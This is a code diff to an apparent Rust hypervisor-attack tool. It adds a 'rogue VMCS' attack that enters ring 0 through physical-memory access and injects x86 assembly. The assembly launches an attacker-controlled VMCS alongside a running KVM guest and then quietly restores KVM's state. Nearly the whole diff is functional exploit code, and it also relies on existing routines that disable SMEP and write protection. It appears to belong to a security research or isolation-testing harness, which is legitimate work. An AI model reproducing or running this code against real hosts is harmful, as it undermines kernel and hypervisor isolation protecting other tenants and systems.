@@ -95,6 +95,7 @@ fn main() -> ExitCode {
             IhmiAttack::L2MapMonitor => kvm_l2_map(Some(&cmdline)),
             IhmiAttack::L2Vmfunc => kvm_l2_vmfunc(),
             IhmiAttack::HostState => kvm_host_state(&cmdline),
+            IhmiAttack::RogueVmcs => kvm_rogue_vmcs(&cmdline),
         };
         return match result {
             Ok(()) => ExitCode::SUCCESS,
@@ -577,6 +578,58 @@ fn kvm_host_state(cmdline: &str) -> Result<(), String> {
     Ok(())
 }
 
+/// 12.10: a VMCS of the attacker's own, launched from ring 0 while KVM's guest runs. The region is
+/// a locked page of this process with the revision identifier in it; the payload puts KVM's VMCS
+/// back as current afterwards, so KVM's guest goes on as if nothing happened.
+fn kvm_rogue_vmcs(cmdline: &str) -> Result<(), String> {
+    let k = Kernel::learn()?;
+    let mem = open_mem()?;
+    let revision = vmcs_revision()?;
+    let (region, frame) = locked_page()?;
+    // SAFETY: the page is this process's, writable; the first word of a VMCS region.
+    unsafe { region.cast::<u32>().write_volatile(revision) };
+    let ring0 = enter_ring0(&k, &mem)?;
+    let (probe, _windows, _found) = match probe_with_vmcs(&mem, monitor_address(cmdline)?) {
+        Ok(p) => p,
+        Err(e) => {
+            ring0.leave(&mem)?;
+            return Err(e);
+        }
+    };
+    // As for the host-state attack: KVM_CREATE_VCPU has made its VMCS current by now.
+    std::thread::sleep(std::time::Duration::from_millis(20));
+    say(&format!(
+        "ihmi-attack: launching a VMCS of my own at {frame:#x} (revision {revision:#x}) from ring 0"
+    ));
+    ring0.set(2, frame);
+    for word in [4, 6, 7] {
+        ring0.set(word, u64::MAX);
+    }
+    ring0.set(5, 0);
+    let ran = ring0.run(5);
+    ring0.leave(&mem)?;
+    ran?;
+    let (rflags, kvms, error, restored) = (ring0.get(4), ring0.get(5), ring0.get(6), ring0.get(7));
+    say(&format!(
+        "ihmi-attack: KVM's VMCS was {kvms:#x}; VMLAUNCH of mine gave RFLAGS {rflags:#x}, VM-instruction error {error}; KVM's made current again (RFLAGS {restored:#x})"
+    ));
+    say(&format!(
+        "{}{frame:#x} {rflags:#x} {error:#x} {restored:#x}",
+        ihmi_abi::attack::IHMI_ROGUE_VMCS_LINE
+    ));
+    let status = probe
+        .wait_with_output()
+        .map_err(|e| format!("waiting for the probe: {e}"))?
+        .status;
+    say(&format!(
+        "ihmi-attack: the probe ended after my VMLAUNCH ({status})"
+    ));
+    if !status.success() {
+        return Err(format!("KVM's probe failed after the VMLAUNCH ({status})"));
+    }
+    Ok(())
+}
+
 fn kernel_text() -> Result<(), String> {
     let k = Kernel::learn()?;
     let mem = open_mem()?;
@@ -976,7 +1029,10 @@ fn nmi() -> Result<(), String> {
 // follows it in the same page. The operation is the data block's first word:
 // 1 = call the gate at word 1 with request word 2 and first argument word 3, the verdict into word 4;
 // 2 = clear CR4.SMEP; 3 = clear CR0.WP; 4 = VMWRITE word 3 into the current VMCS's field word 2,
-// RFLAGS after it into word 4. It returns 0 with nothing read.
+// RFLAGS after it into word 4; 5 = with interrupts off, the current VMCS's address into word 5
+// (VMPTRST), VMCLEAR and VMPTRLD of the region at word 2, VMLAUNCH, RFLAGS after it into word 4
+// and the VM-instruction error into word 6, VMCLEAR of that region, then VMPTRLD of word 5's again
+// (unless there was none), RFLAGS after it into word 7. It returns 0 with nothing read.
 core::arch::global_asm!(
     r#"
     .section .rodata.ihmi_forge, "a"
@@ -996,6 +1052,8 @@ ihmi_forge_code:
     je 3f
     cmp $4, %rdi
     je 4f
+    cmp $5, %rdi
+    je 5f
     jmp 9f
 1:  mov 16(%rax), %rdi
     mov 24(%rax), %rsi
@@ -1022,6 +1080,28 @@ ihmi_forge_code:
     pop %rdx
     lea ihmi_forge_data(%rip), %rcx
     mov %rdx, 32(%rcx)
+    jmp 9f
+5:  pushfq
+    cli
+    lea ihmi_forge_data(%rip), %rcx
+    vmptrst 40(%rcx)
+    vmclear 16(%rcx)
+    vmptrld 16(%rcx)
+    vmlaunch
+    pushfq
+    pop %rdx
+    mov %rdx, 32(%rcx)
+    mov $0x4400, %edx
+    vmread %rdx, %rax
+    mov %rax, 48(%rcx)
+    vmclear 16(%rcx)
+    cmpq $-1, 40(%rcx)
+    je 6f
+    vmptrld 40(%rcx)
+    pushfq
+    pop %rdx
+    mov %rdx, 56(%rcx)
+6:  popfq
 9:  movq $0, (%rbx)
     xor %eax, %eax
     pop %rbx
